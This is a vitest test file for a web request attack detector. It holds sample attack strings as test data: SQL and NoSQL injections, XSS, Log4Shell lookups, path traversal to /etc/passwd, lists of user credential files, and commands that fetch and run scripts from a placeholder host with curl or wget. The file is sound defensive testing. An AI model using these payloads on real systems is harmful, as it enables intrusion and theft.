/** The request judge: what it recognises in which place, what it leaves alone, and what it costs. */
import { expect, test } from 'vitest';
import { z } from 'zod';
import {
  analyzeRequests,
  judgeRequest,
  judgeValue,
  leadingClass,
  parseRawRequest,
} from '../../../analysis/web/index.ts';
import { dataJsonLines, describeWithData } from '../../support/data.ts';
import { expectProportion } from '../../support/growth.ts';

const certainClass = (text: string) => leadingClass(judgeValue(text).filter(({ certain }) => certain));

test.each([
  ["1' or '1'='1", 'sqli'],
  ['1 union/**/select password from users', 'sqli'],
  ['1 union select password from users', 'sqli'],
  ['x union all select a', 'sqli'],
  ['union select null', 'sqli'],
  ['/etc/passwd', 'lfi'],
  ['read me the file /../../etc/passwd', 'lfi'],
  ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
  ['%2526lt;svg/onload=alert(1)>', 'xss'],
  ['; cat /etc/hosts', 'rce'],
  ['$(whoami)', 'rce'],
  ['..%252f..%252fetc%252fpasswd', 'lfi'],
  ['%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini', 'lfi'],
  ['${${lower:j}ndi:${::-l}dap://198.51.100.1/a}', 'log4shell'],
  ['http://169.254.169.254/latest/meta-data/', 'ssrf'],
  ['<?php echo 1; ?>', 'php-injection'],
  ['{{7*7}}', 'template-injection'],
  ['x\r\nSet-Cookie: a=b', 'header-injection'],
])('%s is %s', (text, attack) => {
  expect(certainClass(text)).toBe(attack);
});

test.each([
  "O'Reilly & Sons",
  'select your seat from the list',
  'Tom and Jerry',
  '2026-11-24T00:00:00Z',
  'a@example.com',
  'C# or F#?',
  'rock & roll; country',
  '50% off',
  'https://www.example.com/page?id=1',
  'constructor',
  '__main',
  'drop me a line',
  'union select committee report',
  'how to cat /etc/passwd',
  'what is in the file /etc/shadow on linux?',
  '10 < 20',
])('%s is left alone', (text) => {
  expect(certainClass(text)).toBeUndefined();
});

test('a search in plain words is no attack in a request either', () => {
  for (const target of ['/search?q=union+select+committee+report', '/q?t=how+to+cat+/etc/passwd'])
    expect(judgeRequest({ method: 'GET', target }).hits).toEqual([]);
});

test('an escape before a comment, or the end of a comment in a page, is no SQL: the command in it is named', () => {
  const page = encodeURIComponent('<!--#exec cmd="/bin/cat /etc/passwd"-->');
  const [named] = analyzeRequests([{ method: 'GET', target: `/?q=${page}` }], 'params').findings;
  expect(named?.rule?.split('/')[0]).toBe('rce');
  const note = encodeURIComponent('<!-- "note" -->');
  expect(judgeRequest({ method: 'GET', target: `/?q=${note}` }).hits.filter(({ certain }) => certain)).toEqual([]);
  for (const sql of ['1 or 2=2%27--', 'a->>"$.b" -- ', '7) -- '])
    expect(judgeRequest({ method: 'GET', target: `/?q=${encodeURIComponent(sql)}` }).hits[0]?.class).toBe('sqli');
});

test('every place of a request is read, and evidence names the place, the text and the decodings', () => {
  const sql = "1' union select a from b--";
  const places = {
    path: { target: `/${encodeURIComponent(sql)}` },
    query: { target: `/?a=${encodeURIComponent(sql)}` },
    header: { target: '/', headers: { 'User-Agent': sql } },
    cookie: { target: '/', headers: { Cookie: `a=${sql}` } },
    form: {
      target: '/',
      body: `a=${encodeURIComponent(sql)}`,
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    },
    json: { target: '/', body: JSON.stringify({ a: { b: [sql] } }), headers: { 'Content-Type': 'application/json' } },
  };
  for (const [name, place] of Object.entries(places)) {
    const { hits } = judgeRequest({ method: 'POST', ...place });
    expect(
      hits.map((hit) => hit.class),
      name,
    ).toContain('sqli');
  }
  const [hit] = judgeRequest({ method: 'GET', target: places.query.target }).hits;
  expect(hit).toMatchObject({ label: 'query value "a"', steps: ['percent'] });
  expect(sql).toContain(hit?.text);
});

test.each([
  ['characters that nobody sees', `${'\u200b'.repeat(60)}<script>alert(1)</script>`, '<script>'],
  ['a letter that grows in lower case', `${'İ'.repeat(60)}<script>alert(1)</script>`, '<script>'],
  ['line ends inside an address', 'xx" href="\n\t\njava\nscript:alert(1)', 'java\nscript:a'],
  ['a path behind null bytes', `${'\0'.repeat(60)}/etc/passwd`, '/etc/passwd'],
  ['a command behind quotes', `${"a''".repeat(60)}a; w'h'o"am"i; cat /etc/passwd`, 'cat /etc/passwd'],
  ['SQL behind such a letter', `${'İ'.repeat(60)}' union select a from b--`, 'union select'],
  ['an address behind blanks', `${' '.repeat(60)}http://203.0.113.9/x.txt?`, 'http://203.0.113.9'],
])('the evidence of an attack behind %s is what stands there', (_, text, shown) => {
  const cited = judgeValue(text).filter(({ certain, steps }) => certain && steps.length === 0);
  expect(cited.map((hit) => hit.text)).toContainEqual(expect.stringContaining(shown));
  for (const hit of cited) expect(text).toContain(hit.text);
});

test('names of the prototype are words like any other', () => {
  for (const text of ['constructor', 'toString valueOf', '&constructor; __proto__x'])
    expect(() => judgeValue(text)).not.toThrow();
  expect(parseRawRequest('GET / HTTP/1.1\r\nconstructor: x\r\n\r\n')).toMatchObject({ headers: { constructor: 'x' } });
});

test('requests become a verdict with evidence, and the same again', () => {
  const requests = [
    { method: 'GET', target: '/ok?id=3' },
    { method: 'GET', target: '/a?x=;cat%20/etc/passwd' },
  ];
  const result = analyzeRequests(requests, 'params');
  expect(result).toMatchObject({
    verdict: 'malicious',
    severity: 'high',
    checked: [{ corpus: { items: 2, items_read: 2 } }],
  });
  expect(result.findings[0]?.evidence[0]?.locator).toContain('request 2, query value "x"');
  expect(JSON.stringify(analyzeRequests(requests, 'params'))).toBe(JSON.stringify(result));
  expect(analyzeRequests([{ method: 'GET', target: '/ok?id=3' }], 'params')).toMatchObject({
    verdict: 'benign',
    confidence: 0,
  });
});

test('hostile values cost time in proportion to their length (ATK-A9)', async () => {
  for (const unit of [
    '<',
    '<a ',
    '((',
    "'",
    '/*',
    '${',
    '{{',
    '../',
    ';ls ',
    'union ',
    'a=',
    '%25',
    '&lt;',
    '\\x5c',
    '`',
    '[]',
    '"or"',
    'on',
    '\r\n',
    '){',
    'select(',
    '|',
    '$a',
    '0x2e',
    'java.',
    'system(',
    '- -',
    '<!--#',
    'http://',
  ]) {
    await expectProportion(unit, 4_096, judgeValue);
  }
});

test.each([
  ['${jndi:ldap://127.0.0.1:1389/a}', 'log4shell', 'jndi'],
  ['${jndi:ldap://169.254.169.254/latest/meta-data/}', 'log4shell', 'jndi'],
  ["1' OR 1=1-- ", 'sqli', 'OR 1=1'],
  ['; cat /etc/passwd', 'rce', 'cat'],
])('%s is one finding: %s', (text, attack, shown) => {
  const of = (target: string) => analyzeRequests([{ method: 'GET', target }], 'params').findings;
  const findings = of(`/item?id=${encodeURIComponent(text)}`);
  expect(findings.map(({ rule }) => rule?.split('/')[0])).toEqual([attack]);
  expect(findings[0]?.evidence[0]?.excerpt).toContain(shown);
  expect(of(`/item?id=${encodeURIComponent(text)}&name=${encodeURIComponent(text)}`)).toHaveLength(2);
});

test('what only the values of one name say together is found, as servers join them with commas', () => {
  const findings = (request: { target: string; body?: string }) =>
    analyzeRequests([{ method: 'POST', ...request }], 'params').findings;
  for (const pairs of ['id=1+union/*&id=*/select/*&x=1&id=*/2', 'id=sleep/*&ID=*/(5)', 'id=1+or+(&id=2)+like+1']) {
    expect(findings({ target: `/?${pairs}` })[0], pairs).toMatchObject({ severity: 'high' });
    expect(findings({ target: '/', body: pairs })[0], pairs).toMatchObject({ severity: 'high' });
  }
  const [first, rest] = ['id=1+union/*', 'id=*/select/*&id=*/2'];
  expect(findings({ target: `/?${first}`, body: rest })[0]).toMatchObject({ severity: 'high' });
  // One name is one attack, also where a value says it alone.
  expect(findings({ target: "/?id=1'+or+1=1--+&id=2&id=3" })).toHaveLength(1);
  const honest = Array.from({ length: 3_000 }, (_, nth) => `tag=${nth}-and-or-select`).join('&');
  expect(analyzeRequests([{ method: 'POST', target: '/', body: honest }], 'params')).toMatchObject({
    verdict: 'benign',
  });
  const late = `${honest}&tag=1+union/*&tag=*/select/*&tag=*/2&${honest}`;
  expect(findings({ target: '/', body: late })[0]).toMatchObject({ severity: 'high' });
});

test('a parameter name that hides a terminal command is neutralised wherever it is told (ATK-F3)', () => {
  const told = JSON.stringify(
    analyzeRequests([{ method: 'GET', target: "/?a\u001b[2J\u202e=1'%20or%201=1--" }], 'params'),
  );
  expect(told).toContain('sqli');
  expect(told).not.toMatch(/\\u001b|\u202e/);
});

describeWithData('parameter values and requests with known labels', () => {
  test('what is remembered of values says the same as judging them anew', () => {
    const judged = new Map();
    const payloads = z.array(z.object({ payload: z.string() })).parse(dataJsonLines('web', 'http-params.jsonl.gz'));
    for (const { payload } of [...payloads.slice(0, 400), ...payloads.slice(0, 400)]) {
      const text = encodeURIComponent(payload);
      const request = {
        method: 'GET',
        target: `/${text}?${text}=${text}`,
        headers: { 'X-Of': payload, Cookie: `a=${text}` },
      };
      expect(judgeRequest(request, judged)).toStrictEqual(judgeRequest(request));
    }
    expect(judged.size).toBeGreaterThan(100);
  });

  const Value = z.object({ payload: z.string(), attack_type: z.string() });
  const CLASS: Readonly<Record<string, string>> = { sqli: 'sqli', xss: 'xss', cmdi: 'rce', 'path-traversal': 'lfi' };

  test('recognises at least 85 % of each class by its name, and at most 1 % of ordinary values', () => {
    const count = new Map<string, { all: number; flagged: number; named: number }>();
    for (const { payload, attack_type } of z.array(Value).parse(dataJsonLines('web', 'http-params.jsonl.gz'))) {
      const kind = count.get(attack_type) ?? { all: 0, flagged: 0, named: 0 };
      const found = certainClass(payload);
      kind.all += 1;
      kind.flagged += found ? 1 : 0;
      kind.named += found === CLASS[attack_type] ? 1 : 0;
      count.set(attack_type, kind);
    }
    const { norm, ...attacks } = Object.fromEntries(count);
    expect((norm?.flagged ?? 1) / (norm?.all ?? 1)).toBeLessThanOrEqual(0.01);
    for (const [type, { all, named }] of Object.entries(attacks))
      expect(named / all, type).toBeGreaterThanOrEqual(0.85);
  });

  const Request = z.object({
    category: z.string(),
    attack: z.boolean(),
    request: z.object({
      method: z.string(),
      uri: z.string(),
      headers: z.record(z.string(), z.string()).nullish(),
      data: z.string().nullish(),
    }),
  });
  test('of the requests of a rule set, keeps the recall it has reached', () => {
    const rows = z.array(Request).parse(dataJsonLines('web', 'crs-requests.jsonl.gz'));
    const recall = (category: string) => {
      const attacks = rows.filter((row) => row.attack && row.category === category);
      const flagged = attacks.filter(({ request: { method, uri, headers, data } }) =>
        judgeRequest({ method, target: uri, headers: headers ?? {}, body: data ?? '' }).hits.some(
          ({ certain }) => certain,
        ),
      );
      return flagged.length / attacks.length;
    };
    for (const [category, floor] of Object.entries(CRS_FLOORS))
      expect(recall(category), category).toBeGreaterThanOrEqual(floor);
  });
});

test.each([
  '{"username":{"$ne":null},"password":{"$gt":""}}',
  '{"user":{"$in":["a","b"]}}',
  '{"$or":[{"a":1},{"b":2}]}',
])('operators of MongoDB in JSON are an attack however short their names: %s', (body) => {
  const request = { method: 'POST', target: '/login', headers: { 'Content-Type': 'application/json' }, body };
  expect(analyzeRequests([request], 'params')).toMatchObject({
    verdict: 'malicious',
    findings: [{ rule: 'nosqli/operator', severity: 'high' }],
  });
});

const CRS_FLOORS = {
  'java-injection': 0.85,
  sqli: 0.55,
  xss: 0.55,
  'php-injection': 0.6,
  rce: 0.45,
  'session-fixation': 0.7,
};

test.each([
  'Select Committee from Union',
  'Bitte rufen Sie an (ab 8 Uhr) -- Danke!',
  'Bobby\'s "tables" -- review',
  'C++ && bash',
  'president; cat videos',
  'order by phone -- cheap',
  'sleep(5) in C',
  'Wofür sleep(5) in C',
  "O'Reilly drop table lamp",
  'SELECT COUNT(*) Excel',
  'message:"union select"',
  '1=1 meme',
  '/docs/../docs/intro',
  '/artikel/%C3%BCbung/../liste',
  '/etc/hosts bearbeiten',
])('%s is what people write and left alone', (text) => {
  expect(certainClass(text)).toBeUndefined();
});

test.each([
  ['/docs/../../intro', 'lfi'],
  ['uploads/%2e%2e/conf', 'lfi'],
  ['/public/..;/manager', 'lfi'],
  ["admin' -- thanks for all", 'sqli'],
  ["x' order by name -- more words here", 'sqli'],
  ["O'or 1=1", 'sqli'],
  ['1 or sleep(5) -- in my time', 'sqli'],
  ['select password from users', 'sqli'],
  ['127.0.0.1; cat flag', 'rce'],
  ['word;cat flag', 'rce'],
  ['echo x | bash', 'rce'],
])('%s stays %s', (text, attack) => {
  expect(certainClass(text)).toBe(attack);
});

test('an attack that a text for people speaks of is less than one by itself, and never nothing', () => {
  const body = (text: string) =>
    analyzeRequests(
      [{ method: 'POST', target: '/', headers: { 'content-type': 'application/json' }, body: text }],
      'x',
    );
  const told =
    'In SQL you write SELECT name FROM users WHERE id = 1; -- like that. Also rm is bad; cat /etc/passwd lists all';
  expect(body(JSON.stringify({ text: told }))).toMatchObject({ verdict: 'suspicious', severity: 'medium' });
  expect(body(JSON.stringify({ text: 'x; cat /etc/passwd' }))).toMatchObject({ verdict: 'malicious' });
});

test.each([
  ['1 UNION SELECT password FROM users -- the quick user is not in this list and we are with you', 'sqli'],
  ["' OR 1=1 -- the a is are for we you all that this", 'sqli'],
  ["this is a day that we like to be with you' OR 1=1 -- ", 'sqli'],
  ['; cat /etc/passwd # the a is are for we you', 'rce'],
])('words behind it make no prose of an attack: %s', (text, attack) => {
  const result = analyzeRequests([{ method: 'GET', target: `/?q=${encodeURIComponent(text)}` }], 'x');
  expect(result).toMatchObject({ verdict: 'malicious', severity: 'high' });
  expect(result.findings[0]?.rule?.split('/')[0]).toBe(attack);
});

test('a text for people that tells of a union stays what may only speak of it', () => {
  const told = 'With SQL you can write SELECT a FROM b UNION SELECT c FROM d to join what is in the two of them';
  expect(analyzeRequests([{ method: 'GET', target: `/?q=${encodeURIComponent(told)}` }], 'x').verdict).toBe(
    'suspicious',
  );
});

test('the gravest class of a part is named, however many lesser rules see it as well', () => {
  const text = '; cat /etc/passwd\r\nSet-Cookie: a=1\r\nBcc: <a@example.com><!--#include file=a-->';
  const result = analyzeRequests([{ method: 'GET', target: `/?q=${encodeURIComponent(text)}` }], 'x');
  expect(result).toMatchObject({ verdict: 'malicious', findings: [{ severity: 'high' }] });
});

const inJson = (text: string) =>
  analyzeRequests(
    [{ method: 'POST', target: '/t', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text }) }],
    'x',
  );

test.each([
  'Cost is $(5) or so',
  'Use $(document).ready() in jQuery',
  'Insert into the slot the values (page 3).',
  'The user is gone; delete from the list does not help',
  'Thanks | more details below; id 55',
  'Thanks | find out more about us on the next page',
  '$(function() { $(this).hide() })',
  '../login',
  '../images/b.png',
  'https://example.com/../a',
])('plain words of a ticket are no attack: %s', (text) => {
  expect(inJson(text)).toMatchObject({ verdict: 'benign', severity: 'info' });
});

test.each([
  'After the update C:\\Windows\\explorer.exe crashes.',
  'Please check /etc/hosts on the server',
  'The file C:\\Windows\\System32\\drivers\\etc\\hosts was changed by the installer.',
])('a file of the system that a sentence speaks of is told, and no attack by itself: %s', (text) => {
  expect(inJson(text)).toMatchObject({ verdict: 'suspicious', severity: 'low' });
});

test.each([
  ['sudo cat /etc/passwd', 'lfi'],
  ['please check the file ../../etc/passwd', 'lfi'],
  ['the file; cat /etc/passwd', 'rce'],
  ['x; id 0', 'rce'],
  ['$(id)', 'rce'],
  ['$(($() 42))', 'rce'],
  ['report | more /etc/passwd', 'rce'],
  ['$a(1)', 'php-injection'],
  ['${"sys"."tem"}("id")', 'php-injection'],
  ['insert into users values (1)', 'sqli'],
  ["x'; insert into the values (1)", 'sqli'],
  ['../etc/x', 'lfi'],
  ['../config.php', 'lfi'],
  ['../credentials', 'lfi'],
  ['../keys/private', 'lfi'],
  ['../app/etc/local', 'lfi'],
  ['my name | find home user -delete', 'rce'],
  ['$(this||/opt/x/run)', 'rce'],
  ['please, the C:\\Windows\\System32\\cmd.exe /c whoami', 'rce'],
  ['please see /etc/passwd\0', 'lfi'],
  ['1; insert into a values (1)', 'sqli'],
  ['1; delete from a where 1', 'sqli'],
  ['../../images/b.png', 'lfi'],
])('what only looks a little like it stays an attack: %s is %s', (text, attack) => {
  expect(inJson(text)).toMatchObject({ verdict: 'malicious' });
  expect(inJson(text).findings[0]?.rule?.split('/')[0]).toBe(attack);
});

test.each([
  'Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko',
  'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like Gecko',
  'Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'curl/8.4.0 (+https://www.example.com/bot)',
])('the User-Agent %s is no note', (agent) => {
  const { findings } = analyzeRequests([{ method: 'GET', target: '/', headers: { 'User-Agent': agent } }], 'r');
  expect(findings).toEqual([]);
});

test('what a program says of itself between semicolons is no command, and commands there are', () => {
  const rules = (agent: string) =>
    analyzeRequests([{ method: 'GET', target: '/', headers: { 'User-Agent': agent } }], 'r').findings.map(
      ({ rule }) => rule,
    );
  for (const word of ['Touch', 'Screen', 'Java/1.8', 'Node', 'less']) {
    expect(rules(`Mozilla/5.0 (Windows NT 6.3; Trident/7.0; ${word}; rv:11.0) like Gecko`), word).toEqual([]);
  }
  for (const act of ['whoami', 'touch /tmp/x', 'cat /etc/passwd', 'wget http://203.0.113.7/a'])
    expect(rules(`Mozilla/5.0 (Windows NT 6.3; ${act}; rv:11.0)`), act).not.toEqual([]);
  expect(rules('x; touch; y')).toContain('rce/command');
});

test.each(["a/1 (';id;'", "a/1 (x';id;'", 'a/1 (x";env;"', 'a/1 (x; id;', 'a/1 (x$(y);id;', 'x &amp; env'])(
  'a value that dresses %s as a User-Agent or an entity is a command as any other',
  (host) => {
    const asked = [{ method: 'GET', target: `/ping?host=${encodeURIComponent(host)}` }];
    expect(analyzeRequests(asked, 'r').verdict).toBe('malicious');
  },
);

test.each(["a/1 (x';id;'", 'a/1 (x";id;"', 'a/1 (x|y; id;', 'a/1 (x`y; id;', 'a/1 (x%27; id;', 'a/1 (x\\y; id; z)'])(
  'the User-Agent %s says more than a comment may, and is judged as a command',
  (agent) => {
    const rules = analyzeRequests([{ method: 'GET', target: '/', headers: { 'User-Agent': agent } }], 'r').findings;
    expect(rules.map(({ rule }) => rule)).toContain('rce/short-command');
  },
);

test.each([
  'Documents/passwords.kdbx',
  'Desktop/vpn.ovpn',
  'Documents/mail.pfx',
  'code.p12',
  'Desktop/server.rdp',
  'aws.pem',
  'tls.key',
  'putty.ppk',
  'id_rsa',
  'id_ed25519',
  'NTUSER.DAT',
  '.ssh/known_hosts',
  'AppData/Local/Google/Chrome/User Data/Default/Login Data',
  'Cookies',
  'Documents/passwords.txt',
  'Documents/wallet.dat',
  'Documents/db.sqlite',
])('%s in a folder of a user is loot', (file) => {
  for (const path of [`C:/Users/bob/${file}`, `C:\\Users\\bob\\${file}`, `C:\\\\Users\\\\bob\\\\${file}`]) {
    const target = `/download?file=${encodeURIComponent(path)}`;
    expect(analyzeRequests([{ method: 'GET', target }], 'r').verdict, path).toBe('malicious');
  }
});

test('an entity hides no command that does something by itself', () => {
  expect(certainClass('8.8.8.8&nbsp; env')).toBe('rce');
});

test('whoever asks with curl is told from a command that does', () => {
  expect(certainClass('curl/8.4.0 http://203.0.113.7/a')).toBeUndefined();
  for (const act of [
    'curl http://203.0.113.7/a',
    'wget${IFS}http://203.0.113.7/a',
    '/usr/bin/curl -s http://203.0.113.7/a',
  ])
    expect(certainClass(act), act).toBe('rce');
});

test.each([
  'C:\\Users\\anna\\Documents\\report.docx',
  'Build finished; less than 5 warnings',
  'Cups; plates &amp; more',
])('%s is nothing that attacks', (text) => {
  expect(judgeValue(text).filter(({ certain }) => certain)).toEqual([]);
});

test.each([
  ['C:\\Users\\Administrator\\Desktop\\x.txt', 'lfi'],
  ['c:/users/anna/.ssh/id_rsa', 'lfi'],
  ['done; less /etc/passwd', 'rce'],
  ['a&amp;whoami', 'rce'],
  ['`id -a`', 'rce'],
])('%s still is %s', (text, attack) => {
  expect(
    judgeValue(text)
      .filter(({ certain }) => certain)
      .map((hit) => hit.class),
  ).toContain(attack);
});

test('a parenthesis that closes what the value did not open is still one that breaks out', () => {
  const rules = (text: string) => judgeValue(text).map(({ rule }) => rule);
  expect(rules('5) or sleepy')).toContain('sqli/condition-start');
  expect(rules("(a') or sleepy")).toContain('sqli/condition-start');
});

test.each([
  [
    'a form',
    { body: 'host=127.0.0.1;wget http://203.0.113.7/b.sh -O /tmp/b', media: 'application/x-www-form-urlencoded' },
  ],
  [
    'an encoded form',
    { body: 'a=%3Bwget+http%3A%2F%2F203.0.113.7%2Fb.sh%3Bsh+b.sh', media: 'application/x-www-form-urlencoded' },
  ],
  ['plain text', { body: ';wget http://203.0.113.7/b.sh', media: 'text/plain' }],
  ['JSON', { body: '{"host":"$(curl http://203.0.113.7/b.sh|sh)"}', media: 'application/json' }],
])('a command that was put into %s names as indicators whom it speaks to', (_form, { body, media }) => {
  const request = { method: 'POST', target: '/ping', headers: { 'Content-Type': media }, body };
  expect(analyzeRequests([request], 'r').iocs).toContainEqual({ type: 'url', value: 'http://203.0.113.7/b.sh' });
});

test('what a request only names, or attacks nobody with, is no indicator', () => {
  const body = 'text=see http://203.0.113.7/b.sh&id=1%27 or 1=1--';
  expect(analyzeRequests([{ method: 'POST', target: '/x', body }], 'r').iocs).toEqual([]);
});
